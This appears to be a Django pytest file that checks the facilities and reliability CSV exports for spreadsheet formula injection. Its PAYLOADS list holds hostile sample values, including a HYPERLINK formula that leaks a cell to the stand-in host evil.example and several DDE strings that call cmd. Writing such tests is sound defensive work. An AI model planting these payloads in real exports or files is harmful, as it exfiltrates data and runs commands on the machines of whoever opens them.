"""Spreadsheet formula injection: every CSV export neutralises cells that start with = + - @ tab
or carriage return, whatever users typed into names, serials and notes."""

import csv
import io

import pytest
from django.urls import reverse

from facilities import csvio
from facilities import services as facility_services

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text):
    rows = list(csv.reader(io.StringIO(text)))
    return rows[0], [cell for row in rows[1:] for cell in row]


@pytest.mark.django_db
def test_facilities_exports_neutralise_formulas(client_for, admin):
    for i, payload in enumerate(PAYLOADS):
        site = facility_services.site_create(actor=admin, name=f"{payload} {i}", address=payload)
        location = facility_services.location_create(actor=admin, site=site, name=f"{payload} room")
        model = facility_services.equipment_model_create(actor=admin, manufacturer=f"{payload} maker {i}",
                                                         name=f"{payload} model", category=payload)
        facility_services.equipment_create(actor=admin, asset_tag=f"EVIL-{i}", model=model, site=site,
                                           location=location, serial_number=payload)
    for kind in csvio.KINDS:
        response = client_for(admin).get(reverse("facilities:export_csv", args=[kind]))
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        assert response["Content-Disposition"].startswith("attachment;")
        header, cells = _cells(b"".join(response.streaming_content).decode() if response.streaming
                               else response.content.decode())
        dangerous = [c for c in cells if c.startswith(FORMULA_START)]
        assert not dangerous, (kind, dangerous)
        assert any(c.startswith("'=HYPERLINK") for c in cells) or kind not in ("sites", "equipment"), kind


@pytest.mark.django_db
def test_reliability_export_neutralises_formulas(client_for, admin, customer):
    from datetime import timedelta

    from django.utils import timezone

    from facilities.models import Equipment, EquipmentModel, Manufacturer, Site
    from knowledge.tests.conftest import make_failure

    site = Site.objects.create(name="=1+1 site")
    for i, payload in enumerate(PAYLOADS):
        maker = Manufacturer.objects.create(name=f"{payload} {i}")
        model = EquipmentModel.objects.create(manufacturer=maker, name=payload)
        unit = Equipment.objects.create(asset_tag=f"{payload}-{i}", model=model, site=site)
        make_failure(requester=customer, equipment=unit, at=timezone.now() - timedelta(days=3))
    for group in ("equipment", "manufacturer", "model"):
        response = client_for(admin).get(reverse("knowledge:reliability_csv"), {"group": group})
        assert response.status_code == 200
        header, cells = _cells(response.content.decode())
        dangerous = [c for c in cells if c.startswith(FORMULA_START)]
        assert not dangerous, (group, dangerous)
